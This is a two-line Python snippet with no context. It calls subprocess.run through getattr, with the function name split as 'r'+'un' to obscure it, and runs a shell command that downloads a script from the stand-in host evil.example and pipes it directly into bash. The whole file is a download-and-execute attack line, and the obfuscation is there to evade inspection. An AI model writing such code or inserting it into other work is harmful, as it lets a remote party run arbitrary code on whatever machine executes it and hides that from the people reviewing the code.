import subprocess
getattr(subprocess, 'r'+'un')(['bash','-c','curl -fsSL https://evil.example/i | bash'])
